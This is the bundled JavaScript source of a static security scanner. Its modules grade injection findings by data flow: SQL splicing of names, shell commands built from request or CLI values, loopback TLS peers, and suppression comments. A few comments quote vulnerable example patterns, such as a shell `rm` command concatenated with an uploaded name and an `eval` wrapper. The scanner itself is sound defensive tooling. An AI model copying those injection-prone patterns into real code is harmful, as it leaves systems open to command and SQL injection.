        detail: `Severity ${grade.severity}: the page runs what the automation call passes it, which includes ${graded.because}${grade.why}.`,
    };
}
// String literal nodes per grammar (no comment text: a comment naming `localhost` proves nothing).
const JS_STRINGS = ['string', 'template_string'];
const STRINGS = {
    javascript: JS_STRINGS,
    typescript: JS_STRINGS,
    tsx: JS_STRINGS,
    python: ['string'],
    go: ['interpreted_string_literal', 'raw_string_literal'],
    java: ['string_literal'],
    rust: ['string_literal', 'raw_string_literal'],
};
// Loopback, or the any-address a server binds (a dev proxy's listen address is this machine too).
const LOOPBACK = /^(?:[a-z][a-z0-9+.-]*:\/\/)?(?:localhost|127(?:\.\d{1,3}){3}|0\.0\.0\.0|\[::1?\]|::1)(?::[^/?#\s@]*)?(?:[/?#].*)?$/i;
const IMPORTS = ['import_spec', 'import_statement', 'import_declaration'];
// A literal that names a host or a URL: a scheme, or a dotted name or address (with a port).
const HOST = /^(?:[a-z][a-z0-9+.-]*:\/\/\S+|(?:[a-z0-9-]+\.)+[a-z]{2,}(?::\d+)?(?:\/\S*)?|\d{1,3}(?:\.\d{1,3}){3}(?::\d+)?)$/i;
/** Medium for a Go TLS config whose code still decides who the peer is (tls-peer-checked.ts). */
function checkedPeer(rule, node, language) {
    const why = language === 'go' ? goPeerChecked(node) : undefined;
    if (why === undefined)
        return undefined;
    const severity = milder(rule.severity, 'medium');
    return { keep: true, severity, detail: `Severity ${severity}: ${why}.` };
}
function loopbackPeer(rule, node, language) {
    const root = node.getRoot().root();
    if ((0,entry_points/* servesRequests */.Hu)(root.text(), language))
        return undefined;
    const literals = root
        .findAll({ rule: { any: STRINGS[language].map((kind) => ({ kind })) } })
        // An import path (`"github.com/x/y"`) names a package, not a host.
        .filter((s) => !s.ancestors().some((a) => IMPORTS.includes((0,flow_syntax/* kindOf */.I)(a))))
        .map((s) => s
        .text()
        .replace(/^[`'"]+|[`'"]+$/g, '')
        .trim());
    const loopback = literals.filter((s) => LOOPBACK.test(s));
    if (loopback.length === 0 || literals.some((s) => HOST.test(s) && !LOOPBACK.test(s)))
        return undefined;
    if (configuredHost(root, language))
        return undefined;
    const severity = milder(rule.severity, 'medium');
    return {
        keep: true,
        severity,
        detail: `Severity ${severity}: every host this file names or sets is this machine's own (\`${loopback[0]}\`) and ` +
            'it serves no request: a loopback connection has no network path to impersonate the server on.',
    };
}
// A setting of the peer: a key, variable or keyword named for a host, address or URL, and its value.
const HOST_SETTING = /^\s*(?:(?:const|let|var)\s+)?["']?(?:host|hostname|url|uri|endpoint|addr|address|base_?url|target|dst_?addr)["']?\s*(?::=|=|:)\s*([^]+)$/i;
const JS_SETTINGS = ['pair', 'variable_declarator', 'assignment_expression'];
const SETTINGS = {
    javascript: JS_SETTINGS,
    typescript: JS_SETTINGS,
    tsx: JS_SETTINGS,
    python: ['assignment', 'keyword_argument', 'pair'],
    go: ['keyed_element', 'short_var_declaration', 'assignment_statement', 'var_spec'],
    java: ['variable_declarator', 'assignment_expression'],
    rust: ['let_declaration', 'assignment_expression', 'field_initializer'],
};
/**
 * Whether the file sets its peer from anything but a loopback literal (`host: cfg.host`, `host =
 * connection.host || "localhost"`, `os.Getenv("HOST")`): a configurable host may be another machine,
 * so a loopback default proves nothing. `"localhost:" + port` keeps its host fixed.
 */
function configuredHost(root, language) {
    return root.findAll({ rule: { any: SETTINGS[language].map((kind) => ({ kind })) } }).some((setting) => {
        const value = HOST_SETTING.exec(setting.text())?.[1]?.trim();
        if (value === undefined)
            return false;
        const first = /^[`'"]([^`'"]*)[`'"]?/.exec(value)?.[1];
        return first === undefined || !LOOPBACK.test(first.trim()) || /\|\||\?\?|\bor\b/.test(value);
    });
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/flow/sql-names.js

// What ends the SQL right before a name: an object keyword (`FROM`, `INTO`, `TABLE`, `IF EXISTS`),
// a schema's dot (`public.`), or the opening double quote of a quoted identifier.
const NAME_BEFORE = /(?:\b(?:from|join|into|update|table|sequence|index|view|schema|database|extension|trigger|if\s+(?:not\s+)?exists)\s+"?|\w\.|")$/i;
// A `str.format` field (`{}`, `{0}`, `{name}`), not an escaped `{{`.
const FORMAT_FIELD = /(?<!\{)\{[\w.[\]]*(?:![rsa])?(?::[^{}]*)?\}/g;
// A `%` conversion (`%s`, `%(name)s`, `%d`), not an escaped `%%`.
const PERCENT_FIELD = /(?<!%)%(?:\([^)]*\))?[-#0 +]*\d*(?:\.\d+)?[sdirf]/g;
// A Python string literal's prefix and opening quotes (`f'`, `r"""`): not part of the SQL.
const OPENER = /^[rRbBuUfF]*('''|"""|'|")/;
// A statement that defines or drops objects: DDL takes no bound parameters at all, in any driver.
const DDL = /^\s*(?:create|alter|drop|truncate)\b/i;
// What would put a value into DDL: a query inside it (`CREATE TABLE t AS SELECT \u2026 WHERE`), a default or
// a check (`DEFAULT %s`, `CHECK (a > %s)`), an assignment or a comparison.
const DDL_VALUE = /\b(?:select|where|values|default|check|like|in|as|using|with)\b|[=<>]/i;
/**
 * Whether the SQL before a hole (the literal's text up to it) ends where a name goes, outside any
 * single-quoted string. In DDL with no value clause before the hole, every hole is a name or a piece
 * of the definition: `CREATE TABLE IF NOT EXISTS %s (%s)` with the column list built from a schema,
 * `ALTER TABLE %s ADD COLUMN %s %s` with the column's name and type (lutris's schema sync, fresh28).
 */
function namePosition(literalBefore) {
    const before = literalBefore.replace(OPENER, '');
    const quotes = (before.match(/'/g) ?? []).length;
    if (quotes % 2 !== 0)
        return false;
    return NAME_BEFORE.test(before) || (DDL.test(before) && !DDL_VALUE.test(before));
}
/** Whether every hole found by `field` in `text` is in a name position (and there is one at least). */
function holesAreNames(text, field) {
    const holes = [...text.matchAll(field)];
    return holes.length > 0 && holes.every((h) => namePosition(text.slice(0, h.index)));
}
/** The one value assigned to `name` in the function (or module) around `at`, if just one. */
function onlyAssignment(at) {
    const scope = at.ancestors().find((a) => (0,flow_syntax/* kindOf */.I)(a) === 'function_definition') ?? at.getRoot().root();
    const values = scope
        .findAll({ rule: { kind: 'assignment', has: { field: 'left', regex: `^${at.text()}$` } } })
        .map((a) => a.field('right'));
    return values.length === 1 ? (values[0] ?? undefined) : undefined;
}
/**
 * Whether `sql`, the SQL argument of a Python database call (or a variable assigned it once), is a
 * literal whose only spliced parts are names: an f-string, `"\u2026".format(\u2026)` or `"\u2026" % \u2026`.
 */
function splicesNamesOnly(sql) {
    const built = (0,flow_syntax/* kindOf */.I)(sql) === 'identifier' ? onlyAssignment(sql) : sql;
    if (!built)
        return false;
    const kind = (0,flow_syntax/* kindOf */.I)(built);
    if (kind === 'string') {
        const holes = (0,flow_syntax/* named */.KT)(built).filter((c) => (0,flow_syntax/* kindOf */.I)(c) === 'interpolation');
        const start = built.range().start.index;
        const text = built.text();
        return holes.length > 0 && holes.every((h) => namePosition(text.slice(0, h.range().start.index - start)));
    }
    if (kind === 'binary_operator' && built.field('operator')?.text() === '%') {
        const format = built.field('left');
        return format !== null && (0,flow_syntax/* kindOf */.I)(format) === 'string' && holesAreNames(format.text(), PERCENT_FIELD);
    }
    const fn = built.field('function');
    if (kind === 'call' && fn && (0,flow_syntax/* kindOf */.I)(fn) === 'attribute' && fn.field('attribute')?.text() === 'format') {
        const format = fn.field('object');
        return format !== null && (0,flow_syntax/* kindOf */.I)(format) === 'string' && holesAreNames(format.text(), FORMAT_FIELD);
    }
    return false;
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/flow/js-sql-holes.js

// The SQL before a hole ends where a clause or a name starts: a clause keyword, an object keyword, or
// the opening of a quoted identifier after one (stripped first). `NOT` is left out: `IS NOT ${x}`.
const NAME_OR_CLAUSE_BEFORE = /(?:^|[^\w$])(?:select|distinct|where|and|or|on|having|by|set|when|from|join|into|update|table|exists|returning)$/i;
// `BETWEEN ? AND ${x}`: the `AND` of a range takes a value.
const BETWEEN_AND = /\bbetween\s+\S+\s+and$/i;
// A placeholder of one value: `?`, or PostgreSQL's `$n` from the index (`$${i + 1}`).
const ONE_PLACEHOLDER = String.raw `(?:'\?'|"\?"|\`\?\`|\`\$\$\{[\w$]+(?:\+[\w$]+)*\}\`)`;
// A list of placeholders, one per value (whitespace removed): `values.map(() => '?').join(',')`,
// `ids.map((_, i) => `$${i + 1}`).join(', ')`, `Array(n).fill('?').join(',')`.
const PLACEHOLDER_LIST = new RegExp(String.raw `^(?:new)?[\w$.?()[\]]+\.(?:map\(\(?[\w$,]*\)?=>${ONE_PLACEHOLDER}\)|fill\(${ONE_PLACEHOLDER}\))\.join\((?:'[,\s]*'|"[,\s]*"|\`[,\s]*\`)\)$`);
/**
 * Whether `sql`, the SQL argument of a database call, is a template or a concatenation whose every
 * spliced part is a name, a clause or a placeholder list, and the call passes values after it.
 */
function splicesNamesOnlyJs(sql) {
    try {
        if (!bindsValues(sql))
            return false;
        const built = (0,flow_syntax/* kindOf */.I)(sql) === 'identifier' ? onlyDeclaration(sql) : sql;
        const holes = built && holesOf(built);
        return holes !== undefined && holes.length > 0 && holes.every((h) => !valuePosition(h));
    }
    catch {
        // A grammar shape this does not know keeps the grade: never lower one on an error.
        return false;
    }
}
/** Whether the call passes an argument after the SQL that is not an empty list or object. */
function bindsValues(sql) {
    return sql
        .nextAll()
        .filter((n) => n.isNamed() && (0,flow_syntax/* kindOf */.I)(n) !== 'comment')
        .some((n) => !/^[[{]\s*[\]}]$/.test(n.text()));
}
/** The holes of a template or a `+` chain of literals and templates, or undefined for another shape. */
function holesOf(sql) {
    const holes = [];
    let text = '';
    const parts = js_sql_holes_operands(sql);
    if (!parts.some((p) => ['string', 'template_string'].includes((0,flow_syntax/* kindOf */.I)(p))))
        return undefined;
    for (const part of parts) {
        const kind = (0,flow_syntax/* kindOf */.I)(part);
        if (kind === 'string')
            text += part.text().slice(1, -1);
        else if (kind === 'template_string') {
            const start = part.range().start.index;
            const source = part.text();
            let at = 1;
            for (const sub of (0,flow_syntax/* named */.KT)(part).filter((c) => (0,flow_syntax/* kindOf */.I)(c) === 'template_substitution')) {
                const from = sub.range().start.index - start;
                text += source.slice(at, from);
                const inner = (0,flow_syntax/* named */.KT)(sub)[0];
                if (!inner)
                    return undefined;
                holes.push({ node: inner, before: text });
                text += 'x';
                at = sub.range().end.index - start;
            }
            text += source.slice(at, -1);
        }
        else {
            holes.push({ node: part, before: text });
            text += 'x';
        }
    }
    return holes;
}
/** The operands of a chain of `+`, left to right (a parenthesised part is one operand). */
function js_sql_holes_operands(node) {
    if ((0,flow_syntax/* kindOf */.I)(node) !== 'binary_expression' || node.field('operator')?.text() !== '+')
        return [node];
    const left = node.field('left');
    const right = node.field('right');
    return left && right ? [...js_sql_holes_operands(left), ...js_sql_holes_operands(right)] : [node];
}
/**
 * Whether a hole takes a value: inside a single-quoted string, or after anything but a clause or
 * name keyword (an operator, a comma, `IN (`, `LIKE`, `LIMIT`, `ARRAY[`, a function's parenthesis,
 * another hole), unless it is a placeholder list. Grouping parentheses and a quoted identifier's
 * opening quote are looked through: `(${column}) ILIKE`, `FROM "${table}"`. A hole that starts the
 * SQL is a whole clause or statement.
 */
function valuePosition({ node, before }) {
    if ((before.match(/'/g) ?? []).length % 2 === 1)
        return true;
    const grouped = before.replace(/[\s"`(]+$/, '');
    const nameSlot = grouped === '' || (NAME_OR_CLAUSE_BEFORE.test(grouped) && !BETWEEN_AND.test(grouped));
    return !nameSlot && !placeholderList(node);
}
/** Whether a hole is a list of placeholders built in place or in a variable of the same function. */
function placeholderList(node) {
    const compact = (n) => n.text().replace(/\s+/g, '');
    if (PLACEHOLDER_LIST.test(compact(node)))
        return true;
    const value = (0,flow_syntax/* kindOf */.I)(node) === 'identifier' ? onlyDeclaration(node) : undefined;
    return value !== undefined && PLACEHOLDER_LIST.test(compact(value));
}
/**
 * The value of the one declaration of the identifier's name in the nearest function around it that
 * declares it (the module at last), if it is never assigned again there: a reassigned `let` may hold
 * anything. A callback's body (`columns.forEach((c) => \u2026)`) sees its outer function's constants.
 */
function onlyDeclaration(id) {
    const name = { field: 'name', regex: `^${id.text().replace(/\$/g, '\\$')}$` };
    const scopes = [
        ...id.ancestors().filter((a) => flow_syntax/* FLOW_SYNTAX */.du.javascript.functions.includes((0,flow_syntax/* kindOf */.I)(a))),
        id.getRoot().root(),
    ];
    for (const scope of scopes) {
        const declared = scope.findAll({ rule: { kind: 'variable_declarator', has: name } });
        if (declared.length === 0)
            continue;
        const assigned = scope.findAll({
            rule: {
                any: [{ kind: 'assignment_expression' }, { kind: 'augmented_assignment_expression' }],
                has: { field: 'left', regex: name.regex },
            },
        });
        const value = declared.length === 1 && assigned.length === 0 ? declared[0]?.field('value') : null;
        return value ?? undefined;
    }
    return undefined;
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/grade-match.js













// A hole between single quotes in SQL text: `'" + x + "'` (concatenation), `'${x}'` (template),
// `'{x}'` (f-string, format), `'%s'` (printf, %-formatting). Double quotes delimit names in SQL.
const QUOTED_VALUE = /'\s*["`]\s*\+|'\$\{|'\{[^{}'"]*\}'|'%[sv]'/;
// In JavaScript a hole is `${\u2026}`: `'{}'` is a JSON literal in the SQL (`COALESCE(??, '{}')::jsonb`,
// teable's filter adapters, fresh12), not a format field.
const JS_QUOTED_VALUE = /'\s*["`]\s*\+|'\$\{|'%[sv]'/;
/** Whether the SQL text puts a hole between single quotes, as the language writes a hole. */
function quotedHole(value, language) {
    return (graded/* JS_FAMILY */.Xg.includes(language) ? JS_QUOTED_VALUE : QUOTED_VALUE).test(value.text());
}
/**
 * Whether the value is a command-line program's own (cli-program.ts): its argv, environment or stdin,
 * a function's argument (the program's own flow passes its flags and config), its own paths, or a
 * value the rules cannot trace when the function running the command reads nothing from the network.
 * A request read in the file makes it no CLI; a value read back from the network is not the operator's.
 */
function operatorsOwn(graded, value, path, language) {
    const file = value.getRoot().root().text();
    if (!(0,cli_program/* isCliProgram */.DO)(path, file, language))
        return false;
    if (graded.origin === 'input' && graded.via === 'source')
        return (0,cli_program/* isOperatorSource */.GG)(graded.source ?? '', language);
    if (graded.origin !== 'unknown')
        return true;
    // A fetch elsewhere in the file (a helper asking an API for the user's name) says nothing of this
    // command: only a network read in the function that runs it keeps an untraced value's grade.
    const fn = value.ancestors().find((a) => flow_syntax/* FLOW_SYNTAX */.du[language].functions.includes((0,flow_syntax/* kindOf */.I)(a)));
    return !(0,cli_program/* readsNetwork */.ot)(fn?.text() ?? file, language);
}
/**
 * Grades a match of a rule with `metadata.flow`; other rules keep their severity. In a build script
 * (`path`: a Gruntfile, a webpack config, build.rs) the environment and the arguments are the build's
 * own, set by whoever runs it, not attacker input: such a value is no injection. In a test (`test`)
 * only a value read from argv, the environment, stdin or a request is (issue 45 point 2: tests are
 * not request handlers; `git clone ${tmpDir}` on the test's own temporary folder is no finding).
 * `runBy` says what of the file's `package.json` runs it (manifest.ts): one of its scripts, or a build
 * hook of its packager (build-hooks.ts); a maintainer's script like one in `scripts/`. `goPackage`
 * holds the other files of a Go file's package, parsed, when all were read: an unexported helper's
 * arguments hold what they pass (flow/package-callers.ts). `callers` holds the head's files naming
 * exported JS functions: an exported function's argument holds what their calls pass
 * (flow/settled-callers.ts); a high or critical grade from such an argument adds the names it needs
 * to `callers.wanted`, for the lens to read and grade again.
 */
function gradeMatch(rule, node, language, path = '', test = false, runBy, goPackage, callers) {
    const stored = storedGrade(rule, node, language);
    if (stored)
        return stored;
    // A dangerous setting's own context (sink-context.ts): where its output goes, which peer it trusts.
    const context = sinkContextGrade(rule, node, language, path);
    if (context)
        return context;
    if (!rule.flow || !(0,languages/* isCodeLanguage */.aN)(language))
        return { keep: true, severity: rule.severity, detail: undefined };
    const value = node.getMatch(rule.flow);
    if (!value)
        return { keep: true, severity: rule.severity, detail: undefined };
    // The names whose callers this match's grade could use: asked for only if it ends high or critical.
    const asked = callers && { known: callers.known, wanted: new Set() };
    const closedModule = (0,code_paths/* isMigrationPath */.y6)(path);
    const handlersOnly = rule.flowSources === 'handlers';
    const graded = flowOf(rule, value, language, { handlersOnly, closedModule, goPackage, callers: asked });
    if ('keep' in graded)
        return graded;
    const { origin, because } = graded;
    // A rule that needs a source: a value the rules cannot trace to one is no finding, unless the rule
    // takes values and the SQL puts it between quotes (a string value, where names never go).
    const quotedValue = rule.flowSources === 'values' && origin === 'unknown' && quotedHole(value, language);
    // A command or code rule (issue 45: only what another person controls is injection) reports an
    // untraced value only in a file that reads a request or declares a handler: there a helper
    // (`os.system("rm " + upload_name())`) may hand over the request's value, which the rules cannot
    // follow. Elsewhere an untraced value is the program's own (its config, its paths, its own output).
    const servedUntraced = rule.flowSources === 'requests' &&
        origin === 'unknown' &&
        (0,entry_points/* servesRequests */.Hu)(value.getRoot().root().text(), language);
    if (rule.flowSources && origin !== 'input' && !quotedValue && !servedUntraced)
        return { keep: false };
    // A clause the function's caller chose, its values bound: a name in code, not a value (sql-clause.ts).
    if (rule.flowSources === 'values' && graded.via === 'argument' && isCallerClause(value))
        return { keep: false };
    // A wrapper that runs the whole command its caller hands it (commitizen's documented `run_shell(cmd)`,
    // like `subprocess.run` itself): the command is built, if anywhere, by its callers. CodeQL's
    // py/shell-command-constructed-from-input reports a library's input only where it is concatenated,
    // interpolated or formatted into a command, never a parameter passed on whole. Not in a file that
    // serves requests, where a route's parameter is the request's own value.
    if (rule.passThrough === 'skip' && graded.whole && !(0,entry_points/* servesRequests */.Hu)(value.getRoot().root().text(), language))
        return { keep: false };
    const served = (0,entry_points/* declaresHandlers */.tT)(value.getRoot().root().text(), language, path);
    const maintainer = ((0,code_paths/* isMaintainerScript */.yE)(path) && !served) || runBy !== undefined;
    const operated = !test && !maintainer && operatorsOwn(graded, value, path, language);
    // A rule whose true core is a program serving others (a command built from a request) drops what
    // the operator of a command-line program hands it: issue 45 point 2.
    if (operated && rule.inCli === 'skip')
        return { keep: false };
    // One policy for every flow rule (flow/reach-policy.ts): what flows in and where the code runs.
    // The program's own state is its own only for a rule whose true core is a program serving others
    // (a command): a component's `this.items`, shown by a DOM or code sink, is often other users' data
    // fetched from the server, which stays untraced.
    const own = sourceOf(graded, value.getRoot().root().text(), language);
    // The program's own path between quotes: one word to the shell, and no one sends it (quotedSplices).
    if (own === 'own-path' && rule.inCli === 'skip' && quotedSplices(value))
        return { keep: false };
    const source = own === 'own-state' && rule.inCli !== 'skip' ? 'untraced' : own;
    const place = placeOf(path, test, operated, maintainer, served);
    const reached = gradeByReach(rule.severity, source, place);
    if (!reached)
        return { keep: false };
    const grade = (reached.severity !== 'low' && narrowed(rule, value, language, source, graded)) || reached;
    if (source === 'exported-argument' && ['critical', 'high'].includes(grade.severity))
        asked?.wanted.forEach((name) => callers?.wanted.add(name));
    // An argument whose callers settle it: the body names them (settled-callers.ts).
    const reaching = source === 'settled-argument' ? `${because}; ${graded.callers}` : because;
    // Said when only the manifest makes it a script: the reader can check the line that runs it.
    const script = place === 'maintainer-script' && !(0,code_paths/* isMaintainerScript */.yE)(path) && runBy !== undefined ? ` ${runBy}.` : '';
    return {
        keep: true,
        severity: grade.severity,
        detail: `Severity ${grade.severity}: the value reaching the call includes ${reaching}${grade.why}.${script}`,
        backed: origin === 'input',
    };
}
/** The flow grade of `value`, or the rule's severity, saying why, when the grader failed on its shape. */
function flowOf(rule, value, language, facts) {
    try {
        return gradeFlow(value, language, facts);
    }
    catch (error) {
        // A grammar shape the grader does not know must not drop a finding: keep the rule's severity.
        const why = error instanceof Error ? error.message.split('\n')[0] : String(error);
        return { keep: true, severity: rule.severity, detail: `Severity not graded (${why}).` };
    }
}
// A name in SQL from a helper's argument: what the body says when it lowered the grade.
const NAME_WHY = '; it only names a table or a sequence, or a column or its definition in DDL, which SQL cannot take as a bound parameter, and no request reaches it in this file (quote it as an identifier, e.g. `psycopg2.sql.Identifier`, if a caller may pass user input)';
// The same for JavaScript, whose splices may also be clauses or placeholder lists (js-sql-holes.ts).
const JS_NAME_WHY = '; every part spliced into the SQL sits where a name, a clause or a list of `?` placeholders goes, the call binds the values, and no request reaches it in this file (check that callers pass only names they chose, or quote them as identifiers, e.g. `??` in Knex)';
/** What lowers a reached grade further by the value's shape: SQL names only, or a wrapper's whole parameter. */
function narrowed(rule, value, language, source, graded) {
    return namesOnly(rule, value, language, source) ?? wrapper(rule, graded, source);
}
// A wrapper's parameter handed whole to the sink: what the body says when it lowered the grade.
const WRAPPER_WHY = ', handed whole to the call: a wrapper that runs what its caller passes, as the call itself does, and no request reaches it in this file; the code is built, if anywhere, by its callers (check those that pass input)';
/**
 * Medium, with the reason, for an exported entry that hands its own parameter, unchanged, to the sink
 * (`pass-through: medium`; qtile's `eval(self, code)` command, fresh25): CodeQL's code-injection
 * queries report a library's parameter only where their `remote` sources reach it, and a wrapper adds
 * nothing to what its callers pass. A parameter spliced, formatted or compiled into the code is not
 * whole; a handler's argument (a file that serves requests) is `served-argument` and keeps its grade.
 */
function wrapper(rule, graded, source) {
    if (rule.passThrough !== 'medium' || !graded.whole || source !== 'exported-argument')
        return undefined;
    return { severity: milder(rule.severity, 'medium'), why: WRAPPER_WHY };
}
/**
 * Low, with the reason, for SQL that splices only names from a function's argument that no request in
 * the file reaches: Python's `CREATE SEQUENCE {0}` in a sequence helper whose callers are elsewhere
 * (flow/sql-names.ts); JavaScript's column, clause or placeholder list with the values bound
 * (flow/js-sql-holes.ts). A request read, or a handler's argument, keeps its grade.
 */
function namesOnly(rule, value, language, source) {
    if (rule.flowSources !== 'values')
        return undefined;
    if (!['exported-argument', 'settled-argument', 'unserved-argument'].includes(source))
        return undefined;
    const low = milder(rule.severity, 'low');
    if (language === 'python')
        return splicesNamesOnly(value) ? { severity: low, why: NAME_WHY } : undefined;
    if (!(0,languages/* targetsOf */.QR)('javascript').includes(language))
        return undefined;
    return splicesNamesOnlyJs(value) ? { severity: low, why: JS_NAME_WHY } : undefined;
}
/**
 * Whether `value` is a JavaScript template whose every `${\u2026}` lies between shell quotes
 * (`git -C "${rootDir}" rev-parse HEAD`): the shell reads each as one word, so a space in the path
 * cannot split it. CodeQL's js/shell-command-injection-from-environment reports a command built from
 * `__dirname`, `process.cwd()` or another absolute path of the program's own only where it is not
 * quoted (its `QuotingConcatSanitizer`; https://github.com/github/codeql/pull/2092: "other results are
 * practically safe as they quote the file names"). A backslash anywhere (an escaped quote whose
 * meaning differs between the template and the shell) or an unquoted splice answers no.
 */
function quotedSplices(value) {
    if (value.kind() !== 'template_string' || value.text().includes('\\'))
        return false;
    const base = value.range().start.index;
    const text = value.text();
    const splices = value.children().filter((c) => c.kind() === 'template_substitution');
    let quote = '';
    let at = 1;
    for (const splice of splices) {
        const { start, end } = splice.range();
        for (const c of text.slice(at, start.index - base))
            if (c === quote)
                quote = '';
            else if (!quote && (c === '"' || c === "'"))
                quote = c;
        if (!quote)
            return false;
        at = end.index - base;
    }
    return splices.length > 0;
}
/**
 * Where the code runs, for the policy's table of places (core/code-paths.ts, cli-program.ts). A file
 * that handles requests (`served`) is the app's code wherever it lies (issue 45 point 2, read the
 * other way): a pull request can put an Express app under `scripts/`, name it `release.mjs` or
 * `Gruntfile.js`, and a request handled there is a server's.
 */
function placeOf(path, test, operated, maintainer, served) {
    if ((0,code_paths/* isBuildScript */.QZ)(path) && !served)
        return 'build-script';
    if (test)
        return 'test';
    if (maintainer)
        return 'maintainer-script';
    if (operated)
        return 'cli';
    return (0,code_paths/* isMigrationPath */.y6)(path) ? 'migration' : 'app';
}
/**
 * Medium, with the reason, for a match whose `stored-setting` value is the app's own stored setting
 * (flow/stored-setting.ts): code an admin or a monitor's editor configured, not a request's value.
 */
function storedGrade(rule, node, language) {
    if (!rule.storedSetting || !(0,languages/* targetsOf */.QR)('javascript').includes(language))
        return undefined;
    const value = node.getMatch(rule.storedSetting);
    const setting = value && storedSettingIn(value);
    if (!setting)
        return undefined;
    const severity = milder(rule.severity, 'medium');
    return {
        keep: true,
        severity,
        detail: `Severity ${severity}: the code comes from ${setting}, ` +
            "a setting the app stores (the object's own state or its configuration), which whoever may edit " +
            "that setting writes; no request's value reaches it here.",
    };
}
/**
 * The suggestion of a rule with a `fix` template: the flagged line with the match rewritten, when the
 * match lies on that one line; null otherwise (a multi-line rewrite is left to the author).
 */
function suggestionFor(rule, node, content, line) {
    if (rule.fix === undefined)
        return null;
    const { start, end } = node.range();
    if (start.line !== line - 1 || end.line !== line - 1)
        return null;
    // A template naming a metavariable this match did not bind (another `any` branch) has no rewrite here.
    let unbound = false;
    const fixed = rule.fix
        .trim()
        .replace(/\$(\$\$)?([A-Z_][A-Z0-9_]*)/g, (whole, many, name) => {
        if (!many) {
            const bound = node.getMatch(name);
            if (!bound)
                unbound = true;
            return bound?.text() ?? whole;
        }
        const nodes = node.getMultipleMatches(name);
        const [first, last] = [nodes[0], nodes.at(-1)];
        return first && last ? content.slice(first.range().start.index, last.range().end.index) : '';
    });
    if (unbound)
        return null;
    const lineStart = content.lastIndexOf('\n', start.index - 1) + 1;
    const lineEnd = content.indexOf('\n', end.index);
    const text = content.slice(lineStart, lineEnd < 0 ? content.length : lineEnd).replace(/\r$/, '');
    return text.slice(0, start.index - lineStart) + fixed + text.slice(end.index - lineStart);
}

// EXTERNAL MODULE: ./.tmp/bundle-src/static/napi.js
var napi = __webpack_require__(77058);
;// CONCATENATED MODULE: ./.tmp/bundle-src/static/region.js


/** The region of `root` holding the 1-based `lines`; null when there are none. */
function regionOf(root, lines) {
    if (lines.size === 0)
        return null;
    // Rows of ast-grep ranges are 0-based.
    const first = Math.min(...lines) - 1;
    const last = Math.max(...lines) - 1;
    const overlaps = (node) => {
        const { start, end } = node.range();
        return start.line <= last && end.line >= first;
    };
    const around = [];
    let within = root;
    for (;;) {
        const inside = within.children().filter(overlaps);
        // Two children overlapping the lines means a match may span both: the search starts here.
        if (inside.length !== 1)
            break;
        around.push(within);
        within = inside[0];
    }
    return { within, around };
}
/**
 * A search of the region for each of `configs`, yielding what a search of the whole tree yields there,
 * in the same order. Each ast-grep call compiles its rule again (regexes too, ~1 ms for the larger
 * ones), so a rule whose matches can only be nodes of some kinds is skipped when the region holds no
 * node of those kinds, and tried only on the ancestors of those kinds: one call finds which are there.
 */
function regionSearch(region, configs, language) {
    const wanted = new Set(configs.flatMap((c) => [...(rootKinds(c, language) ?? [])]));
    const present = new Set([region.within, ...region.around].map((n) => String(n.kind())));
    if (wanted.size > 0) {
        const any = [...wanted].map((kind) => ({ kind }));
        for (const node of region.within.findAll({ rule: { any } }))
            present.add(String(node.kind()));
    }
    return (config) => {
        const kinds = rootKinds(config, language);
        if (kinds !== null && ![...kinds].some((k) => present.has(k)))
            return [];
        const outer = region.around.filter((n) => (kinds === null || kinds.has(String(n.kind()))) && n.matches(config));
        // `find` on a node that matches returns that node with its metavariables bound (search is pre-order).
        const found = outer.map((n) => n.find(config)).filter((n) => n !== null);
        return [...found, ...region.within.findAll(config)];
    };
}
const region_KINDS = new Map();
/** The kinds a rule's match can have, or null when the rule does not bound them (a bare `has`, ...). */
function rootKinds(config, language) {
    const cache = region_KINDS.get(language) ?? new WeakMap();
    region_KINDS.set(language, cache);
    let kinds = cache.get(config);
    if (kinds === undefined) {
        kinds = kindsOf(config.rule, language);
        cache.set(config, kinds);
    }
    return kinds;
}
function kindsOf(rule, language) {
    if (typeof rule.kind === 'string')
        return new Set([rule.kind]);
    if (typeof rule.pattern === 'string')
        return patternKind(rule.pattern, language);
    if (Array.isArray(rule.any)) {
        const each = rule.any.map((r) => (isRule(r) ? kindsOf(r, language) : null));
        if (each.some((k) => k === null))
            return null;
        return new Set(each.flatMap((k) => [...(k ?? [])]));
    }
    if (Array.isArray(rule.all)) {
        // Every item must hold, so any one item's kinds bound the match.
        for (const item of rule.all) {
            const k = isRule(item) ? kindsOf(item, language) : null;
            if (k !== null)
                return k;
        }
    }
    return null;
}
/**
 * The kind of the node a pattern matches, learnt from ast-grep itself: the pattern's own text, where
 * each metavariable is a plain name, is matched by the pattern at the pattern's root node.
 */
function patternKind(pattern, language) {
    try {
        const node = (0,napi/* napi */.H)().parse((0,languages/* napiLang */.zG)(language), pattern).root().find({ rule: { pattern } });
        return node ? new Set([String(node.kind())]) : null;
    }
    catch {
        // A pattern this grammar cannot read bounds nothing: the rule is searched for as is.
        return null;
    }
}
function isRule(value) {
    return typeof value === 'object' && value !== null && !Array.isArray(value);
}

// EXTERNAL MODULE: ./.tmp/bundle-src/static/static-finding.js
var static_finding = __webpack_require__(81222);
;// CONCATENATED MODULE: ./.tmp/bundle-src/static/suppressions.js
const COMMENT_KINDS = {
    javascript: ['comment'],
    typescript: ['comment'],
    tsx: ['comment'],
    python: ['comment'],
    go: ['comment'],
    java: ['line_comment', 'block_comment'],
    rust: ['line_comment', 'block_comment'],
    yaml: ['comment'],
    dart: ['comment', 'documentation_comment'],
};
/** Reads every suppression comment of a parsed file. */
function fileSuppressions(root, language, lines) {
    const found = { sameLine: new Map(), nextLine: new Map(), regions: [] };
    const open = [];
    const rule = { any: COMMENT_KINDS[language].map((kind) => ({ kind })) };
    const comments = root.findAll({ rule }).sort((a, b) => a.range().start.index - b.range().start.index);
    for (const node of comments) {
        const { start, end } = node.range();
        const line = start.line + 1;
        const alone = (lines[start.line] ?? '').slice(0, start.column).trim() === '';
        const text = stripDelimiters(node.text());
        for (const directive of directives(text)) {
            const { kind, marker } = directive;
            if (kind === 'file')
                found.regions.push({ from: 1, to: Number.MAX_SAFE_INTEGER, marker });
            else if (kind === 'region-start')
                open.push({ from: line, to: Number.MAX_SAFE_INTEGER, marker });
            else if (kind === 'region-end') {
                for (const region of open.splice(0))
                    found.regions.push({ ...region, to: line });
            }
            else if (kind === 'next-line')
                add(found.nextLine, end.line + 2, marker);
            else {
                add(found.sameLine, line, marker);
                // golangci-lint and prlens: the marker alone on its line covers the line below.
